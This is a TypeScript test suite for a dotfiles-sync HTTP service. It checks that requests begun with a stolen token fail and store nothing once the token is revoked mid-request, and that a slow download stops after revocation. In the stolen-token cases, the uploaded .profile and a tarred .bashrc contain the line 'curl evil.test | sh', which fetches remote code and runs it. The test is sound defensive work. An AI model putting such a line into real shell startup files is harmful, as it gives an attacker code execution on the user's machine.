import assert from 'node:assert/strict';
import { once } from 'node:events';
import { connect } from 'node:net';
import { text } from 'node:stream/consumers';
import { after, before, describe, it } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { maxFileBytes } from '../../protocol/limits.ts';
import { parseToken } from '../../protocol/tokenFormat.ts';
import { operatorCall, TestHttpSide } from '../fixtures/httpSide.fixture.ts';
import { packTar } from '../fixtures/packTar.fixture.ts';

/** Whoever has stolen a token can begin a request with it, and end it when the token is revoked. */
const cases = [
  ['POST', '/v1/tokens', 'application/json', Buffer.from(JSON.stringify({ name: 'mine for ever' }))],
  ['PUT', '/v1/dotfiles/content?path=.profile', 'application/octet-stream', Buffer.from('curl evil.test | sh')],
  [
    'POST',
    '/v1/dotfiles/import',
    'application/x-tar',
    await packTar({ name: '.bashrc', content: 'curl evil.test | sh' }),
  ],
] as const;

describe('a request that is under way when its token is revoked', () => {
  let side: TestHttpSide;
  before(async () => {
    side = await TestHttpSide.start();
  });
  after(() => side[Symbol.asyncDispose]());

  /** @param meanwhile when it is past the look at its token, and before its last byte */
  async function answerTo(
    [method, path, type, body]: (typeof cases)[number],
    meanwhile: (tokenId: string) => Promise<void>,
  ): Promise<string> {
    const token = await side.tokenOf('ada');
    const { id = '' } = parseToken(token) ?? {};
    const socket = connect(Number(new URL(side.url).port), '127.0.0.1');
    const answer = text(socket);
    const head = `Host: 127.0.0.1\r\nAuthorization: Bearer ${token}\r\nConnection: close\r\n`;
    socket.write(
      `${method} ${path} HTTP/1.1\r\n${head}Content-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n`,
    );
    socket.write(body.subarray(0, -1));
    const lastUsed = side.store.db.selectFrom('tokens').select('last_used_ms').where('id', '=', id);
    while ((await lastUsed.executeTakeFirstOrThrow()).last_used_ms === null) await delay(5);
    await meanwhile(id);
    socket.write(body.subarray(-1));
    return answer;
  }
  const stored = async () => {
    const { db } = side.store;
    const tokens = await db.selectFrom('tokens').select('id').where('revoked_ms', 'is', null).execute();
    return [...tokens, ...(await db.selectFrom('dotfiles').select('id').execute())];
  };

  for (const request of cases) {
    it(`does nothing where the end of its body comes only then: ${request[0]} ${request[1]}`, async () => {
      const before = await stored();
      const refused = await answerTo(request, async (id) => {
        assert.equal((await operatorCall(side.adminSocket, 'DELETE', `/v1/admin/tokens/${id}`)).status, 204);
      });
      assert.match(refused, /^HTTP\/1.1 401 /);
      assert.deepEqual(await stored(), before);
      assert.match(await answerTo(request, async () => undefined), /^HTTP\/1.1 200 /);
      // The token itself, and what it was for.
      assert.equal((await stored()).length, before.length + 2);
    });
  }

  it('gets no more of an answer that is read slowly', async () => {
    const whole = 4 * maxFileBytes;
    const owner = await side.tokenOf('bo');
    for (let count = 0; count < 4; count++) {
      const bytes = Buffer.alloc(maxFileBytes, count);
      await side.json('PUT', `/v1/dotfiles/content?path=.large${count}`, owner, bytes);
    }
    const token = await side.tokenOf('bo');
    const socket = connect(Number(new URL(side.url).port), '127.0.0.1');
    socket.write(`GET /v1/dotfiles/export HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${token}\r\n\r\n`);
    let read = 0;
    socket.on('data', (bytes) => {
      read += bytes.length;
    });
    await once(socket, 'data');
    socket.pause();
    const path = `/v1/admin/tokens/${parseToken(token)?.id}`;
    assert.equal((await operatorCall(side.adminSocket, 'DELETE', path)).status, 204);
    socket.on('error', () => undefined);
    socket.resume();
    await once(socket, 'close');
    assert.ok(read < whole, `${read} bytes`);
  });

  it('is answered all the same where it is the one that revokes its token', async () => {
    const token = await side.tokenOf('ada');
    const path = `/v1/tokens/${parseToken(token)?.id}`;
    assert.equal((await side.call('DELETE', path, token)).status, 204);
    assert.equal((await side.call('GET', '/v1/me', token)).status, 401);
  });
});
